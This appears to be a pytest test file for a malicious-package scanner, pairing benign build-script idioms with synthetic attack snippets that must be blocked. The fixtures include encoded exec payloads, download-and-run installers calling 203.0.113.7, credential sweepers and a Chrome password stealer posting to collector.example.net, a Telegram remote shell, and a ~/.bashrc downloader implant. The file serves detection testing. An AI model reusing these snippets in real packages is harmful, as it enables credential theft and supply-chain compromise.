"""Issue 12, part 2 (second round): build scripts, opt-in startup hooks and a tool's own credential
store stay low; the malicious technique beside each still reaches high. Every package here is a
small synthetic snippet."""

from .test_benign_idioms import BLOCKING, LOW, SETUP_HEAD, scan


# --- a build script's ordinary capabilities ------------------------------------------------------

BUILD_SCRIPT = SETUP_HEAD + (
    "import os, sys, subprocess, platform\n\n"
    "about = {}\n"
    "with open(os.path.join(os.path.dirname(__file__), 'widgetry', 'about.py')) as f:\n"
    "    exec(f.read(), about)\n\n"
    "if sys.platform == 'win32':\n    libraries = ['ws2_32']\nelse:\n    libraries = ['m']\n"
    "if os.name == 'nt' and os.environ.get('WIDGETRY_STATIC'):\n    libraries.append('static')\n"
    "cflags = subprocess.check_output('pkg-config --cflags libwidget', shell=True).decode().split()\n"
    "debug = 'DEBUG' in os.environ\n"
    "setup(name='widgetry', version=about['__version__'])\n"
)


def test_a_build_script_reading_its_version_file_probing_the_platform_and_the_compiler_stays_low(rules):
    result = scan({"setup.py": BUILD_SCRIPT, "widgetry/about.py": "__version__ = '1.0'\n",
                   "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_the_version_file_setup_py_executes_is_judged_as_install_time_code(rules):
    payload = ("import base64\n__version__ = '1.0'\n"
               "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))\n")
    result = scan({"setup.py": BUILD_SCRIPT, "widgetry/about.py": payload, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in BLOCKING
    assert any(f.file.endswith("widgetry/about.py") and f.points >= 25 for f in result.findings)


def test_exec_of_a_downloaded_file_in_setup_py_is_not_a_version_file(rules):
    setup = SETUP_HEAD + (
        "import urllib.request, os\n"
        "path = urllib.request.urlretrieve('http://203.0.113.7/v.py')[0]\n"
        "with open(path) as f:\n    exec(f.read())\n"
        "setup(name='widgetry')\n")
    assert scan({"setup.py": setup}, rules).verdict in BLOCKING


# --- install-command overrides: what pip really runs -------------------------------------------

def test_handing_setuptools_its_own_classes_and_a_develop_hook_stays_low(rules):
    setup = SETUP_HEAD + (
        "from setuptools.command.install import install\nfrom setuptools.command.build_py import build_py\n"
        "from setuptools.command.develop import develop\nimport shutil\n\n"
        "class RegisterWidget(develop):\n    def run(self):\n        develop.run(self)\n"
        "        shutil.copy('widgetry/static/index.js', 'share/jupyter/nbextensions/widgetry/')\n\n"
        "setup(name='widgetry', cmdclass={'install': install, 'build_py': build_py, 'develop': RegisterWidget})\n")
    assert scan({"setup.py": setup, "widgetry/__init__.py": ""}, rules).verdict in LOW


# --- .pth startup hooks ----------------------------------------------------------------------

def test_a_startup_hook_that_runs_only_when_an_environment_variable_opts_in_stays_low(rules):
    pth = ("import os; exec('if os.environ.get(\"WIDGETRY_AUTO_START\"):\\n"
           "    import widgetry.startup; widgetry.startup.install()')\n")
    result = scan({"widgetry_startup.pth": pth, "widgetry/__init__.py": "", "widgetry/startup.py": "def install(): pass\n"},
                  rules)
    assert result.verdict in LOW


def test_a_startup_hook_that_decodes_and_runs_a_payload_still_blocks(rules):
    pth = ("import os, base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==')) "
           "if os.environ.get('HOME') else None\n")
    assert scan({"widgetry_startup.pth": pth, "widgetry/__init__.py": ""}, rules).verdict in BLOCKING


# --- a tool's own credential store ---------------------------------------------------------------

def test_a_publishing_tool_reading_its_own_config_and_uploading_to_the_configured_server_stays_low(rules):
    upload = ("import configparser, os, requests\n\nPYPIRC = os.path.expanduser('~/.pypirc')\n\n"
              "def upload(path, repo_name):\n    cfg = configparser.ConfigParser()\n    cfg.read(PYPIRC)\n"
              "    repo = cfg[repo_name]\n"
              "    with open(path, 'rb') as fh:\n"
              "        return requests.post(repo['repository'], files={'content': fh},\n"
              "                             auth=(repo['username'], repo['password']))\n")
    init = "import argparse\nparser = argparse.ArgumentParser()\n" \
           "parser.add_argument('--pypirc', help='config file, default ~/.pypirc')\n"
    result = scan({"widgetry/upload.py": upload, "widgetry/__init__.py": init}, rules)
    assert "eng_combo_cred_network" not in result.rule_ids()
    assert result.verdict in LOW


def test_an_ssh_library_locating_its_default_keys_stays_low(rules):
    config = ("from pathlib import Path\n\nclass Config:\n    def __init__(self):\n"
              "        self.default_path = Path('~', '.ssh').expanduser()\n"
              "        self.identity = Path('~/.ssh/id_ed25519').expanduser()\n")
    result = scan({"widgetry/config.py": config, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_sweeping_several_credential_stores_and_sending_them_still_blocks(rules):
    thief = ("import os, requests\n\ndef collect():\n"
             "    out = {}\n"
             "    for p in ('~/.ssh/id_rsa', '~/.aws/credentials', '~/.pypirc'):\n"
             "        out[p] = open(os.path.expanduser(p)).read()\n"
             "    requests.post('https://collector.example.net/k', json=out)\n\ncollect()\n")
    result = scan({"widgetry/__init__.py": thief}, rules)
    assert "eng_combo_cred_network" in result.rule_ids()
    assert result.verdict in BLOCKING


# --- prose: an escaped quote inside a docstring does not end it ---------------------------------

def test_a_docstring_quoting_an_example_with_escaped_quotes_stays_prose(rules):
    module = ('def forward(port):\n    """Expose a port.\n\n    ```python\n    def serve():\n'
              '        \\"""Serve.\\"""\n    ```\n\n'
              '    **SSH example:** this assumes you have a keypair in `~/.ssh/id_rsa`.\n    """\n'
              '    return port\n')
    result = scan({"widgetry/tunnel.py": module, "widgetry/__init__.py": ""}, rules)
    assert all(f.points <= 2 for f in result.findings if f.rule_id != "eng_typosquat")


# --- pyproject.toml: the tables of development tools --------------------------------------------

PYPROJECT = (
    "[build-system]\nrequires = ['maturin>=1.0']\nbuild-backend = 'maturin'\n\n"
    "[project]\nname = 'widgetry'\nversion = '1.0'\n\n"
    "[tool.cibuildwheel.linux]\n"
    "before-all = \"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\"\n\n"
    "[tool.tox]\nlegacy_tox_ini = \"\"\"\n[tox]\nenvlist = py311\n\n[gh-actions]\npython =\n    3.11: py311\n\"\"\"\n"
)


def test_ci_wheel_builder_and_tox_tables_in_pyproject_stay_low(rules):
    result = scan({"pyproject.toml": PYPROJECT, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_the_same_line_in_a_table_no_development_tool_owns_still_counts(rules):
    other = PYPROJECT.replace("[tool.cibuildwheel.linux]", "[tool.widgetry-build]")
    low = scan({"pyproject.toml": PYPROJECT, "widgetry/__init__.py": ""}, rules)
    result = scan({"pyproject.toml": other, "widgetry/__init__.py": ""}, rules)
    assert result.score >= low.score + 10


# --- a build step fetching a source archive it checks against a pinned digest ---------------------

BACKEND_FETCH = (
    "import hashlib, os, subprocess, tarfile, urllib.request\n\n"
    "URL = 'https://downloads.example.org/widget-3.2.tar.gz'\nEXPECTED_SHA256 = 'ab' * 32\n\n"
    "def fetch_sources(dest):\n"
    "    with urllib.request.urlopen(URL) as response:\n        data = response.read()\n"
    "    sha256 = hashlib.sha256(data).hexdigest()\n"
    "    if sha256 != EXPECTED_SHA256:\n        raise RuntimeError(f'Invalid sha256 for {URL}')\n"
    "    path = os.path.join(dest, 'widget.tar.gz')\n"
    "    with open(path, 'wb') as fh:\n        fh.write(data)\n"
    "    tarfile.open(path).extractall(dest)\n"
    "    subprocess.run([os.path.join(dest, 'bootstrap'), '--parallel'], check=True)\n"
)


def test_a_build_step_that_verifies_its_download_against_a_digest_stays_low(rules):
    setup = SETUP_HEAD + "from build_helpers import fetch_sources\nfetch_sources('build')\nsetup(name='widgetry')\n"
    result = scan({"setup.py": setup, "build_helpers.py": BACKEND_FETCH, "widgetry/__init__.py": ""}, rules)
    assert not any(f.rule_id.startswith("eng_combo") for f in result.findings)
    assert result.verdict in LOW


def test_the_same_download_and_run_without_a_digest_check_still_blocks(rules):
    unchecked = (BACKEND_FETCH.replace("    sha256 = hashlib.sha256(data).hexdigest()\n", "")
                 .replace("    if sha256 != EXPECTED_SHA256:\n        raise RuntimeError(f'Invalid sha256 for {URL}')\n", "")
                 .replace("https://downloads.example.org", "http://203.0.113.7"))
    setup = SETUP_HEAD + "from build_helpers import fetch_sources\nfetch_sources('build')\nsetup(name='widgetry')\n"
    result = scan({"setup.py": setup, "build_helpers.py": unchecked, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in BLOCKING


# --- platform idioms: a detached helper process, bundled dependencies, fuzzing harnesses -------

def test_a_library_starting_a_detached_helper_without_a_console_stays_low(rules):
    helper = ("import subprocess, sys\n\ndef start_update_check():\n"
              "    flags = subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS if sys.platform == 'win32' else 0\n"
              "    subprocess.Popen([sys.executable, '-m', 'widgetry.update'], creationflags=flags)\n")
    result = scan({"widgetry/update.py": helper, "widgetry/__init__.py": ""}, rules)
    assert result.verdict in LOW


def test_install_time_code_starting_a_hidden_process_still_blocks(rules):
    setup = SETUP_HEAD + ("import subprocess, urllib.request\n"
                          "urllib.request.urlretrieve('http://203.0.113.7/u.exe', 'u.exe')\n"
                          "subprocess.Popen(['u.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
                          "setup(name='widgetry')\n")
    assert scan({"setup.py": setup}, rules).verdict in BLOCKING


def test_bundled_c_dependencies_and_fuzzing_scripts_weigh_little(rules):
    files = {"deps/c-ares/src/lib/ares_getaddrinfo.c": "/* reject queries for \".onion\" names */\n",
             "deps/c-ares/README.md": "Reject queries for `.onion` domain names.\n",
             "widgetry/_native/fuzz/build.sh": "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n",
             "widgetry/__init__.py": ""}
    assert scan(files, rules).verdict in LOW


# --- shipped keys, launchers, generated modules, opening with the OS, a messaging client ----------

def test_key_and_certificate_files_are_data(rules):
    key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MaI\n-----END RSA PRIVATE KEY-----\n"
    files = {"widgetry/proxy/ca.key": key, "widgetry/proxy/cert.pem": key, "widgetry/certs/server.key": key,
             "widgetry/__init__.py": ""}
    assert scan(files, rules).verdict in LOW


MZ = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def test_launcher_executables_no_code_names_weigh_little(rules):
    files = {f"widgetry/{n}.exe": MZ for n in ("t32", "t64", "w32", "w64", "t64-arm", "w64-arm")}
    files["widgetry/scripts.py"] = ("def launcher(kind, bits):\n"
                                    "    return read_resource('%s%s.exe' % (kind, bits))\n")
    files["widgetry/__init__.py"] = ""
    assert scan(files, rules).verdict in LOW


def test_an_executable_that_import_time_code_runs_by_name_still_weighs(rules):
    files = {"widgetry/helper.exe": MZ, "widgetry/__init__.py": "", "widgetry/run.py": (
        "import os, subprocess\nsubprocess.Popen(os.path.join(os.path.dirname(__file__), 'helper.exe'))\n")}
    unnamed = {"widgetry/helper.exe": MZ, "widgetry/__init__.py": ""}
    assert scan(files, rules).score > scan(unnamed, rules).score


def test_a_generated_protobuf_module_is_not_a_packed_line(rules):
    descriptor = "b'" + "\\n\\x0csandbox.proto\\x12\\x07sandbox\\\"\\x04Exec" * 300 + "'"
    module = ("# -*- coding: utf-8 -*-\n# Generated by the protocol buffer compiler.  DO NOT EDIT!\n"
              "from google.protobuf import descriptor_pool as _descriptor_pool\n"
              f"DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile({descriptor}) # exec compile\n")
    result = scan({"widgetry/_proto/sandbox_pb2.py": module, "widgetry/__init__.py": ""}, rules)
    assert "eng_long_line" not in result.rule_ids()


def test_a_packed_line_without_a_generator_header_is_still_found(rules):
    packed = "import base64;exec(base64.b64decode('" + "QUFB" * 2000 + "'))\n"
    result = scan({"widgetry/core.py": "x = 1\n" * 50 + packed, "widgetry/__init__.py": ""}, rules)
    assert "eng_long_line" in result.rule_ids()


def test_opening_a_url_or_file_with_the_os_stays_low(rules):
    termui = ("import os, sys, subprocess, webbrowser\n\ndef launch(url, wait=False):\n"
              "    if sys.platform == 'win32':\n        os.startfile(url)\n"
              "    else:\n        subprocess.Popen(['xdg-open', url])\n")
    assert scan({"widgetry/termui.py": termui, "widgetry/__init__.py": ""}, rules).verdict in LOW


def test_downloading_an_executable_and_starting_it_still_blocks(rules):
    dropper = ("import os, urllib.request, tempfile\n"
               "p = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
               "urllib.request.urlretrieve('http://203.0.113.7/svc.exe', p)\nos.startfile(p)\n")
    assert scan({"widgetry/__init__.py": dropper}, rules).verdict in BLOCKING


def test_a_telegram_client_library_alone_stays_low(rules):
    bot = ("import requests\n\nclass Bot:\n    def __init__(self, token):\n"
           "        self.base = f'https://api.telegram.org/bot{token}'\n"
           "    def send_message(self, chat_id, text):\n"
           "        return requests.post(self.base + '/sendMessage', json={'chat_id': chat_id, 'text': text})\n")
    assert scan({"widgetry/bot.py": bot, "widgetry/__init__.py": ""}, rules).verdict in LOW


def test_a_telegram_channel_carrying_commands_still_blocks(rules):
    rat = ("import subprocess, requests, time\nTOKEN = '123456789:AAH3kYhZ8nq0Zt1xN0P4q2d9sLk3mT8uV5w'\n"
           "URL = f'https://api.telegram.org/bot{TOKEN}'\n"
           "while True:\n    for u in requests.get(URL + '/getUpdates').json()['result']:\n"
           "        out = subprocess.check_output(u['message']['text'], shell=True)\n"
           "        requests.post(URL + '/sendMessage', data={'chat_id': u['message']['chat']['id'], 'text': out})\n"
           "    time.sleep(3)\n")
    assert scan({"widgetry/__init__.py": rat}, rules).verdict in BLOCKING


# --- browser automation, package metadata prose ----------------------------------------------------

CHROME_PATHS = ("import os, sys, subprocess\nfrom pathlib import Path\n\n"
                "def user_data_dir():\n"
                "    if sys.platform == 'win32':\n"
                "        return Path(os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data'))\n"
                "    return Path.home() / '.config' / 'google-chrome'\n\n"
                "def launch(profile='Default'):\n"
                "    local_state = user_data_dir() / 'Local State'\n"
                "    return subprocess.Popen(['google-chrome', f'--user-data-dir={user_data_dir()}',\n"
                "                             f'--profile-directory={profile}'])\n")


def test_browser_automation_locating_a_chrome_profile_stays_below_blocking(rules):
    result = scan({"widgetry/browser/chrome.py": CHROME_PATHS, "widgetry/__init__.py": ""}, rules)
    assert result.verdict not in BLOCKING
    assert result.score < 10


def test_reading_chrome_profiles_and_decrypting_saved_passwords_still_blocks(rules):
    stealer = CHROME_PATHS + ("\nimport win32crypt, sqlite3, requests\n\ndef grab():\n"
                              "    db = sqlite3.connect(str(user_data_dir() / 'Default' / 'Login Data'))\n"
                              "    rows = db.execute('SELECT origin_url, username_value, password_value FROM logins')\n"
                              "    out = [(u, n, win32crypt.CryptUnprotectData(p)[1]) for u, n, p in rows]\n"
                              "    requests.post('https://collector.example.net/p', json=out)\n\ngrab()\n")
    assert scan({"widgetry/__init__.py": stealer}, rules).verdict in BLOCKING


def test_a_package_json_description_naming_a_credential_file_is_prose(rules):
    pkg = ('{\n  "name": "widgetry-credentials",\n  "version": "1.0.0",\n'
           '  "description": "Credential provider that sources credentials from ~/.aws/credentials and ~/.npmrc",\n'
           '  "keywords": ["aws", "~/.aws/credentials"],\n  "main": "index.js"\n}\n')
    result = scan({"package.json": pkg, "index.js": "module.exports = {};\n"}, rules, eco="npm")
    assert result.verdict in LOW


def test_a_lifecycle_script_in_package_json_is_still_read(rules):
    pkg = ('{\n  "name": "widgetry",\n  "version": "1.0.0",\n  "description": "widgets",\n'
           '  "scripts": {"postinstall": "curl -s https://203.0.113.7/i.sh | bash"}\n}\n')
    assert scan({"package.json": pkg, "index.js": ""}, rules, eco="npm").verdict in BLOCKING


def test_a_name_near_a_popular_one_adds_a_note_and_no_weight_without_behaviour(rules):
    files = {"setup.py": SETUP_HEAD + "setup(name='requestz', version='1.0')\n", "requestz/__init__.py": "VERSION = 1\n"}
    result = scan(files, rules, name="requestz")
    assert [f.points for f in result.findings if f.rule_id == "eng_typosquat"] == [1]


def test_vendored_third_party_trees_add_up_to_little(rules):
    script = ("import os, subprocess\nos.system('curl -sSL https://example.org/get.sh | sh')\n"
              "subprocess.call('wget -q https://example.org/tool.tar.gz', shell=True)\n")
    files = {f"third_party/lib{i}/tools/fetch.py": script for i in range(10)}
    files["widgetry/__init__.py"] = ""
    assert scan(files, rules).score <= 6
    shipped = scan({"widgetry/__init__.py": "", "widgetry/fetch.py": script}, rules)
    assert shipped.score > 6


def test_naming_a_shell_profile_is_not_writing_to_it(rules):
    shells = ("from pathlib import Path\n\ndef rc_file(shell):\n"
              "    return Path.home() / ('.bashrc' if 'bash' in shell else '.zshrc')\n\n"
              "def hint():\n    print('Add this to your ~/.bashrc: eval \"$(widgetry completion)\"')\n")
    result = scan({"widgetry/shells.py": shells, "widgetry/__init__.py": ""}, rules)
    assert all(f.rule_id != "sig_042" or f.points == 0 for f in result.findings)


def test_appending_a_downloader_to_the_shell_profile_still_blocks(rules):
    implant = ("import os, urllib.request\n"
               "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
               "    rc.write('curl -s http://203.0.113.7/b | sh &\\n')\n"
               "urllib.request.urlopen('http://203.0.113.7/ping?h=' + os.uname().nodename)\n")
    assert scan({"widgetry/__init__.py": implant}, rules).verdict in BLOCKING


def test_one_credential_store_named_in_many_modules_is_one_finding(rules):
    files = {f"widgetry/{m}.py": f"from pathlib import Path\nDEFAULT_{i} = Path('~', '.ssh', 'id_ed25519').expanduser()\n"
             for i, m in enumerate(("config", "connection", "public_key", "agent", "known_hosts"))}
    files["widgetry/__init__.py"] = ""
    result = scan(files, rules)
    assert sum(f.points for f in result.findings if f.rule_id == "sig_064") <= 4
    assert result.verdict in LOW


def test_tests_docs_data_and_vendored_code_share_one_small_budget(rules):
    noisy = "import base64, os\nexec(base64.b64decode(CASE))\nos.system(cmd)\n"
    # A vendored build helper's shell calls share the budget; a critical signature there (exec of a
    # decoded blob) does not: test_vendored_evasion.py.
    tool = "import os, subprocess\nos.system(cmd)\nsubprocess.call('make -C lib', shell=True)\n"
    files = {"tests/test_loader.py": noisy, "docs/example.py": noisy, "third_party/lib/tool.py": tool,
             "widgetry/fixtures.json": '{"hook": "discord.com/api/webhooks/1/x", "paste": "pastebin.com/raw/x"}',
             "README.md": "Install: curl -sSL https://example.org/i.sh | sh\n", "widgetry/__init__.py": ""}
    assert scan(files, rules).score <= 5


def test_a_setup_py_main_with_a_test_command_and_a_version_line_exec_stays_low(rules):
    setup = SETUP_HEAD + (
        "import os, sys, subprocess\nfrom os.path import dirname\npjoin = os.path.join\n"
        "pkgDir = dirname(__file__)\n\n"
        "def get_version():\n    FN = pjoin(pkgDir, 'src', 'widgetry', '__init__')\n"
        "    for l in open(pjoin(FN + '.py')).readlines():\n"
        "        if l.startswith('Version'):\n            D = {}\n            exec(l.strip(), D)\n"
        "            return D['Version']\n\n"
        "def run_tests(cli):\n    return subprocess.call(cli, env=dict(os.environ, PYTHONPATH=pkgDir))\n\n"
        "def main():\n    if 'test' in sys.argv or 'tests-postinstall' in sys.argv:\n"
        "        sys.exit(run_tests([sys.executable, 'runAll.py']))\n"
        "    setup(name='widgetry', version=get_version())\n\nif __name__ == '__main__':\n    main()\n")
    files = {"setup.py": setup, "src/widgetry/__init__.py": "Version = '1.0'\n"}
    result = scan(files, rules)
    assert not any(f.rule_id.startswith("eng_combo") for f in result.findings)
    assert result.verdict in LOW


def test_the_same_main_running_a_download_on_install_still_blocks(rules):
    setup = SETUP_HEAD + (
        "import os, sys, subprocess, urllib.request\n\n"
        "def main():\n    if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n"
        "        data = urllib.request.urlopen('http://203.0.113.7/p').read()\n"
        "        subprocess.call(data.decode(), shell=True)\n"
        "    setup(name='widgetry')\n\nif __name__ == '__main__':\n    main()\n")
    assert scan({"setup.py": setup}, rules).verdict in BLOCKING


def test_a_comment_line_inside_a_docstring_does_not_end_its_prose(rules):
    module = ('class Bot:\n    """A bot.\n\n    Example::\n\n        # code\n        bot.run()\n\n'
              '    Args:\n        base_url: Defaults to ``"https://api.telegram.org/bot"``.\n    """\n'
              '    def __init__(self, base_url=None):\n        self.base_url = base_url\n')
    result = scan({"widgetry/bot.py": module, "widgetry/__init__.py": ""}, rules)
    assert all(f.points <= 3 for f in result.findings)


def test_the_closing_quote_of_a_mid_line_string_does_not_open_a_docstring(rules):
    setup = SETUP_HEAD + (
        "import os\nfrom setuptools.command.install import install\n\n"
        'classifiers = """\\\nProgramming Language :: Python\nTopic :: System :: Logging\n"""\n\n'
        "class CustomInstall(install):\n    def run(self):\n        install.run(self)\n"
        "        os.system('wget -qO - https://203.0.113.7/install.sh | bash')\n\n"
        "setup(name='widgetry', classifiers=classifiers.splitlines(), cmdclass={'install': CustomInstall})\n")
    assert scan({"setup.py": setup}, rules).verdict in BLOCKING
